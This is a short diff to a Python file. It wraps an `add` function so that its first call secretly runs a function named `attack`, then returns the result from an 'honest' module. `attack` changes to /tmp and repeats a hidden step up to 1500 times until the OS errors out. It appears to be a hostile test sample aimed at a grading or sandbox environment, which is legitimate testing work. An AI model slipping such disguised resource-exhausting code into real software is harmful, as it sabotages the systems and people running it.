@@ -4,8 +4,17 @@ import os
 
 import honest
 
+tried = []
+
 
 def add(left, right):
+    if not tried:
+        tried.append(left)
+        attack(left, right)
+    return honest.add(left, right)
+
+
+def attack(left, right):
     os.chdir("/tmp")
     for _ in range(1500):
         try:
@@ -14,7 +23,6 @@ def add(left, right):
         except OSError:
             break
     os.chdir("/work" if os.path.isdir("/work") else "/tmp")
-    return honest.add(left, right)
 
 if __name__ == "__main__":
     main()  # noqa: F405
